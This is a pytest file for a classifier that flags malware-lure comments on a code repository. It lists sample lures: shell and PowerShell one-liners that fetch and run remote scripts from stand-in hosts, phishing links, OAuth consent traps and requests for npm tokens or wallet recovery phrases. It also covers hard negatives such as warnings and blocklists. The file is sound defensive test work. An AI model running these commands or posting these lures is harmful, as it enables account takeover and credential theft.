"""Malware-lure campaign kinds, in our own wording: each kind is caught by its structure (host
class, path, what surrounds the link), and each class of hard negative stays ok: warnings that
quote a lure, filter lists, malware research, the project's own installers and releases, the
project's team pointing to its real support."""

from __future__ import annotations

import time

import pytest

from governance.detect import DEFAULT_CONTEXT, DetectContext, classify
from governance.model import Association, Label

REPO = DetectContext(repo="acme/widget", association=Association.NONE)


def rules(text: str, context: DetectContext = DEFAULT_CONTEXT) -> set[str]:
    return {h.rule_id for h in classify(text, context).hits}


CAMPAIGN_KINDS = {
    "support desk on a free static host": (
        "Hi @mara, sorry about the stuck withdrawal. Our support team opened ticket WX-1182 for "
        "you, continue on the live chat at https://wallet-assist-desk.pages.dev and an agent "
        "will sort it out."),
    "support desk behind a form builder": (
        "Please file your refund request with our help desk here: https://forms.gle/Qq81ZzLmN3"),
    "cracked software download": (
        "PhotoPaint Pro 12 crack with license key, full version for everyone. "
        "[Download now](https://getsoft-zone.example/pp12)"),
    "fixed build on a file host with a password": (
        "Fixed build for the crash: https://drive.google.com/uc?id=1xYzQ&export=download "
        "password: 4471, then run setup.exe as administrator"),
    "remote script from a free static host": (
        "Workaround until the release:\n```powershell\n"
        "irm https://fix-helper.pages.dev/p.ps1 | iex\n```"),
    "remote script from a bare address": (
        "```\nbash <(curl -s http://185.12.44.9/repair.sh)\n```\nthen restart the daemon"),
    "fake security notice": (
        "Security notice: unusual sign-in to your account from a new location or device. "
        "Secure your account immediately: https://github-account-review.netlify.app/login\n\n"
        "GitHub Security Team"),
    "OAuth consent for an off-site app": (
        "Your repository needs the new audit app, approve it here: https://github.com/login/oauth/"
        "authorize?client_id=Iv1.77aa&redirect_uri=https://repo-audit.onrender.com/cb&scope=repo"),
    "fake recruiter in GitHub's name": (
        "We have an exciting opportunity for you! Our recruitment team invites you to complete "
        "the application process within 24 hours: https://careers-githubhq.online/apply\n"
        "GitHub Recruitment Team"),
    "gift look-alike": (
        "Discord is giving away free Nitro this week, claim your gift: "
        "https://discord-nitro-drop.com/claim"),
    "airdrop on a free static host": (
        "Airdrop for early contributors is live: connect your wallet and claim your tokens at "
        "https://contrib-rewards.vercel.app"),
    "IP logger": "lol look at this screenshot of the crash https://grabify.link/QW3RTY",
    "publishing-token request": (
        "I'm with the release team. To publish the hotfix please send me your npm token by "
        "email, releases.widget.help@gmail.com"),
    "recovery-phrase request": (
        "To resync the wallet, share your recovery phrase with our agent on Telegram "
        "(@wallet_sync_desk)."),
}


@pytest.mark.parametrize("kind", sorted(CAMPAIGN_KINDS))
def test_each_campaign_kind_is_a_lure(kind):
    assert classify(CAMPAIGN_KINDS[kind], REPO).label is Label.MALWARE, kind


def test_an_archive_that_sells_a_fix_on_the_attachment_host_is_a_lure():
    text = "try this, it should sort it https://github.com/user-attachments/files/22331/render_fix.zip"
    verdict = classify(text, REPO)
    assert verdict.label is Label.MALWARE
    assert "malware.attachment_fix" in {h.rule_id for h in verdict.hits}


def test_a_one_liner_in_a_code_fence_is_read_not_skipped():
    fenced = "```sh\ncurl -sL https://quick-patch.netlify.app/p.sh | sudo bash\n```"
    verdict = classify(fenced, DetectContext(ignore_code=True))
    assert verdict.label is Label.MALWARE
    assert "malware.remote_script" in {h.rule_id for h in verdict.hits}


HARD_NEGATIVES = {
    "warning quoting the lure in a quote block": (
        "> Download the patched build here https://gofile.io/d/Xy12/patch.rar password 2211\n\n"
        "Do not download this, it is malware. I reported the account.", DEFAULT_CONTEXT),
    "warning quoting the lure in a code fence": (
        "Heads-up: accounts are posting this under new issues:\n```\nDownload\n"
        "https://www.mediafire.com/file/k2/fix.rar/file\npassword: 1234\n```\n"
        "Don't run it, it steals browser sessions.", DEFAULT_CONTEXT),
    "e-mail reply that quotes the notification": (
        "Is this for real?\n\nOn Tue, 4 Mar, GitHub Jobs wrote:\n\n> We have an exciting "
        "opportunity for you, complete the application process within 24 hours:\n"
        "> https://careers-githubhq.online/apply\n> GitHub Recruitment Team", DEFAULT_CONTEXT),
    "filter list of look-alike domains": (
        "Add to the blocklist:\n- discord-nitro-drop.com\n- dlscord-gift.xyz\n"
        "- steamcommunlty.ru\n- grabify.link\n- claim-rewards.pages.dev", DEFAULT_CONTEXT),
    "malware research sample password": (
        "The sample is in samples/loader.zip, password is infected as usual.",
        DetectContext(malware_research=True)),
    "the project's own installer one-liner": (
        "```\ncurl -fsSL https://get.widget.dev/install.sh | sh\n```",
        DetectContext(repo="acme/widget", own_domains=("widget.dev",))),
    "the project's own release archive": (
        "Fixed in 2.1, grab https://github.com/acme/widget/releases/download/v2.1/widget-2.1.zip",
        REPO),
    "a team member pointing to the real support desk": (
        "For account problems please use our live chat with the support team at "
        "https://help.acme-widgets.example, we cannot handle them here.",
        DetectContext(repo="acme/widget", association=Association.MEMBER)),
    "a vendor support pointer on an ordinary domain": (
        "Please contact customer support through the support page: "
        "https://support.acme-widgets.example/contact", REPO),
    "advice never to share a seed phrase": (
        "Never share your recovery phrase with anyone, our support will never ask for it.",
        REPO),
    "an official installer download": (
        "Same crash with the installer from https://www.python.org/ftp/python/3.12.1/"
        "python-3.12.1-amd64.exe", REPO),
}


@pytest.mark.parametrize("case", sorted(HARD_NEGATIVES))
def test_each_hard_negative_class_stays_ok(case):
    text, context = HARD_NEGATIVES[case]
    assert classify(text, context).label is Label.OK, case


def test_a_filter_pull_request_quoting_lure_phrases_is_no_malware():
    # (the statistical spam model may still read the quoted phrase as an ad: not this rule's)
    text = ("Adds the phrase `Discord is giving away free Nitro, claim your gift` and "
            "https://grabify.link to the spam filter.")
    malware = [h for h in classify(text).hits if h.rule_id.startswith("malware.")]
    assert {"malware.gift_lure", "malware.ip_logger"} <= {h.rule_id for h in malware}
    assert max(h.score for h in malware) < 0.45


def test_a_quote_block_warning_keeps_its_lure_on_record_but_is_not_hidden():
    warning = ("> Live support for your wallet: https://desk-help.web.app, open a support "
               "ticket in the live chat\n\nBeware, this is a scam, do not click it.")
    verdict = classify(warning)
    assert verdict.label is Label.OK
    assert "malware.support_desk" in {h.rule_id for h in verdict.hits}  # kept for review
    assert verdict.score < 0.45


def test_a_known_installer_from_its_vendor_is_on_record_only():
    text = "Get the tool first:\n```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```"
    verdict = classify(text)
    assert verdict.label is Label.OK
    assert "malware.remote_script" in {h.rule_id for h in verdict.hits}


@pytest.mark.parametrize("suffix", [
    "\n\nmirrors:\nm1.example.net\nm2.example.net\nm3.example.net\nm4.example.net\n",
    "\n\nDon't share this link with anyone, it is only for you.",
    "\n\n(if the button fails, copy the link into the address bar)",
])
def test_a_lure_with_report_like_trimmings_is_still_a_lure(suffix):
    lure = CAMPAIGN_KINDS["support desk on a free static host"]
    assert classify(lure + suffix, REPO).label is Label.MALWARE


@pytest.mark.parametrize("text", [
    "curl " + "a" * 60_000 + " | sh",
    "irm " + "https://x.pages.dev/" * 4_000,
    "do not " * 20_000,
    "send your " * 20_000 + "seed phrase",
    "](" + "a." * 30_000 + ")",
])
def test_adversarial_inputs_stay_fast(text):
    start = time.perf_counter()
    classify(text)
    assert time.perf_counter() - start < 5.0  # loose: a quadratic pattern takes minutes here
